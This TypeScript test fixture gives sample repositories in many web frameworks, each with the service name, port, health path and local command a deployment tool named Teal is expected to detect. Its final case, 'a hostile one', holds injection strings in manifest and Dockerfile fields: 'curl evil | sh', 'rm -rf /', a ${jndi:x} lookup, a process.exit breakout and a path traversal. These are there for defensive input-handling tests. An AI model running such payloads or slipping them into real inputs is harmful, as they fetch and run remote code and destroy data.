// biome-ignore-all lint/suspicious/noTemplateCurlyInString: it is what repositories have
import type { Files } from './repository';

export interface Kind {
  readonly files: Files;
  /** What is decided with `--yes`, nobody being asked. */
  readonly expected: {
    readonly name: string;
    readonly port: number;
    readonly directory: string;
    readonly health: string;
    readonly local?: string;
    readonly architecture?: 'X86_64';
  };
  /** One line of what is printed. */
  readonly says: string;
}

const manifest = (more: object) => JSON.stringify({ name: 'orders', scripts: { start: 'node .' }, ...more });
const DOCKERFILE = 'FROM scratch\n';

/** Repositories as they are met, and what Teal makes of them. */
export const KINDS: Readonly<Record<string, Kind>> = {
  express: {
    files: {
      'package.json': manifest({ dependencies: { express: '5' } }),
      Dockerfile: 'FROM node:24\nCOPY . .\nEXPOSE 4000\nUSER node\nCMD ["npm", "start"]\n',
      'src/app.js': "app.get('/healthz', (_, res) => res.end());\n",
    },
    expected: { name: 'orders', port: 4000, directory: '.', health: '/healthz', local: 'npm start' },
    says: 'port 4000: EXPOSE in Dockerfile:3',
  },
  fastify: {
    files: {
      'package.json': manifest({
        name: '@acme/Orders_API',
        scripts: { dev: 'tsx .' },
        dependencies: { fastify: '5' },
      }),
      Dockerfile: 'ARG P=3333\nFROM node AS build\nEXPOSE 1\nFROM node\nARG P=3334\nENV PORT=$P\n',
      'src/server.ts': 'server.get("/ready", ok);\nserver.get("/health", ok);\n',
    },
    expected: { name: 'orders-api', port: 3334, directory: '.', health: '/ready', local: 'npm run dev' },
    says: 'port 3334: ENV PORT in Dockerfile:6',
  },
  'hono in a folder': {
    files: {
      'services/edge/package.json': '{"name":"edge","main":"src/index.mjs","dependencies":{"hono":"4"}}',
      'services/edge/src/index.mjs': 'app.get(`/status`, ok)\n',
      'services/edge/Dockerfile': 'FROM node\nENV A=1 PORT=8787\nEXPOSE 1\n',
    },
    expected: {
      name: 'edge',
      port: 8787,
      directory: 'services/edge',
      health: '/status',
      local: 'node src/index.mjs',
    },
    says: 'port 8787: ENV PORT in services/edge/Dockerfile:2',
  },
  nest: {
    files: {
      'package.json': manifest({ dependencies: { '@nestjs/core': '11', express: '5' } }),
      'src/health.controller.ts': "@Controller('health')\nexport class HealthController {}\n",
      Dockerfile: DOCKERFILE,
    },
    expected: { name: 'orders', port: 3000, directory: '.', health: '/health', local: 'npm start' },
    says: 'Nest: dependency @nestjs/core in package.json',
  },
  next: {
    files: {
      'package.json': manifest({ dependencies: { next: '16', react: '19' } }),
      'app/api/health/route.ts': 'export const GET = () => new Response();\n',
      Dockerfile: DOCKERFILE,
    },
    expected: { name: 'orders', port: 3000, directory: '.', health: '/api/health', local: 'npm start' },
    says: 'health path /api/health: app/api/health/route.ts',
  },
  koa: {
    files: {
      'package.json': manifest({ dependencies: { koa: '3' } }),
      'test/app.test.js': "get('/ready')",
      Dockerfile: 'FROM node\nEXPOSE 80/udp\nEXPOSE 70000\n',
    },
    // What a test asks for is no route.
    expected: { name: 'orders', port: 3000, directory: '.', health: '/', local: 'npm start' },
    says: 'port 3000: the default of Koa',
  },
  fastapi: {
    files: {
      'requirements.txt': 'fastapi==0.120\nuvicorn\n',
      'app/main.py':
        'from fastapi import FastAPI\n\napi = FastAPI(title="x")\n\n@api.get("/healthz")\ndef ok(): ...\n',
      Dockerfile: 'FROM python\nCMD ["uvicorn", "app.main:api"]\n',
    },
    expected: {
      ...{ name: 'shop', port: 8000, directory: '.', health: '/healthz' },
      local: 'uvicorn app.main:api --host 127.0.0.1 --port "$PORT"',
    },
    says: 'local command uvicorn app.main:api --host 127.0.0.1 --port "$PORT": app/main.py:3',
  },
  flask: {
    files: {
      'pyproject.toml': 'dependencies = ["Flask>=3", "gunicorn"] # django\n',
      'web.py': "app = Flask(__name__)\n@app.route('/ping')\n",
      Dockerfile: DOCKERFILE,
    },
    expected: {
      ...{ name: 'shop', port: 5000, directory: '.', health: '/ping' },
      local: 'gunicorn --bind "127.0.0.1:$PORT" web:app',
    },
    says: 'Flask: pyproject.toml',
  },
  django: {
    files: {
      Pipfile: '[packages]\ndjango = "*"\n',
      'manage.py': '',
      'site/urls.py': "urlpatterns = [path('health/', ok)]\n",
      Dockerfile: DOCKERFILE,
    },
    expected: {
      ...{ name: 'shop', port: 8000, directory: '.', health: '/health' },
      local: 'python manage.py runserver "127.0.0.1:$PORT" --noreload',
    },
    says: 'health path /health: site/urls.py:1',
  },
  go: {
    files: {
      'go.mod': 'module github.com/acme/price-feed/v2\n\nrequire github.com/gin-gonic/gin v1.10.0\n',
      'cmd/server/main.go': 'package main\n// r.GET("/readyz", ok)\n',
      Dockerfile: 'FROM golang AS build\nFROM --platform=linux/amd64 scratch\n',
    },
    expected: {
      ...{ name: 'price-feed', port: 8080, directory: '.', health: '/readyz', local: 'go run ./cmd/server' },
      architecture: 'X86_64',
    },
    says: 'name price-feed: module in go.mod',
  },
  'spring boot with maven': {
    files: {
      'pom.xml':
        '<artifactId>spring-boot-starter-web</artifactId><artifactId>spring-boot-starter-actuator</artifactId>',
      mvnw: '',
      'src/main/resources/application.yml':
        'spring:\n  application: x\nserver:\n  shutdown: graceful\n  port: ${PORT:9090}\n',
      Dockerfile: DOCKERFILE,
    },
    expected: {
      ...{ name: 'shop', port: 9090, directory: '.', health: '/actuator/health' },
      local: 'SERVER_PORT="$PORT" ./mvnw spring-boot:run',
    },
    says: 'port 9090: server.port in src/main/resources/application.yml',
  },
  'spring boot with gradle': {
    files: { 'build.gradle.kts': 'plugins { id("org.springframework.boot") }', Dockerfile: DOCKERFILE },
    expected: {
      ...{ name: 'shop', port: 8080, directory: '.', health: '/' },
      local: 'SERVER_PORT="$PORT" gradle bootRun',
    },
    says: 'Spring Boot: build.gradle.kts',
  },
  rails: {
    files: {
      Gemfile: 'source "https://rubygems.org"\ngem "rails", "~> 8.0"\n',
      'config/routes.rb': 'get "up" => "rails/health#show", as: :rails_health_check\n',
      Dockerfile: 'FROM ruby\nEXPOSE 80\nUSER 1000:1000\n',
    },
    expected: {
      name: 'shop',
      port: 80,
      directory: '.',
      health: '/up',
      local: 'bin/rails server --port "$PORT"',
    },
    says: 'health path /up: config/routes.rb',
  },
  sinatra: {
    files: { Gemfile: "gem 'sinatra'\n", 'app.rb': "get '/health' do 'ok' end\n", Dockerfile: DOCKERFILE },
    expected: {
      ...{
        name: 'shop',
        port: 4567,
        directory: '.',
        health: '/health',
        local: 'bundle exec ruby app.rb -p "$PORT"',
      },
    },
    says: 'Sinatra: Gemfile',
  },
  dotnet: {
    files: {
      'src/Shop/Shop.csproj': '<Project Sdk="Microsoft.NET.Sdk.Web" />',
      'src/Shop/Program.cs': 'app.MapHealthChecks("/healthz");\n',
      Dockerfile: DOCKERFILE,
    },
    expected: {
      ...{ name: 'shop', port: 8080, directory: '.', health: '/healthz' },
      local: 'ASPNETCORE_URLS="http://127.0.0.1:$PORT" dotnet run --project src/Shop/Shop.csproj',
    },
    says: 'ASP.NET Core: src/Shop/Shop.csproj',
  },
  laravel: {
    files: {
      'composer.json': '{"require":{"laravel/framework":"^12"}}',
      'bootstrap/app.php': "->withRouting(health: '/up')",
      Dockerfile: DOCKERFILE,
    },
    expected: {
      name: 'shop',
      port: 8000,
      directory: '.',
      health: '/up',
      local: 'php artisan serve --port="$PORT"',
    },
    says: 'Laravel: composer.json',
  },
  'rust, which Teal does not know': {
    files: {
      'Cargo.toml': '[package]\nname = "x"\n',
      'src/main.rs': '.route("/livez", get(ok)).route("/ready", get(ok))\n',
      Dockerfile: 'FROM scratch\nEXPOSE 7000 7001\n',
    },
    expected: { name: 'shop', port: 7000, directory: '.', health: '/ready' },
    says: 'health path /ready: src/main.rs:1',
  },
  'a hostile one': {
    files: {
      'package.json': JSON.stringify({
        name: "'); process.exit(9); //${1}\n`x`",
        main: "x.js'; curl evil | sh; '",
        dependencies: { express: '5' },
      }),
      Dockerfile: 'FROM node\nEXPOSE "3000; rm -rf /"\nUSER ${jndi:x}\u001b[2J\n',
      'src/x.js': "get('/health'+`${process.exit(9)}`)\nget('/../../ready')\n",
    },
    expected: { name: 'process-exit-9-1-x', port: 3000, directory: '.', health: '/health' },
    says: 'Express: dependency express in package.json',
  },
};
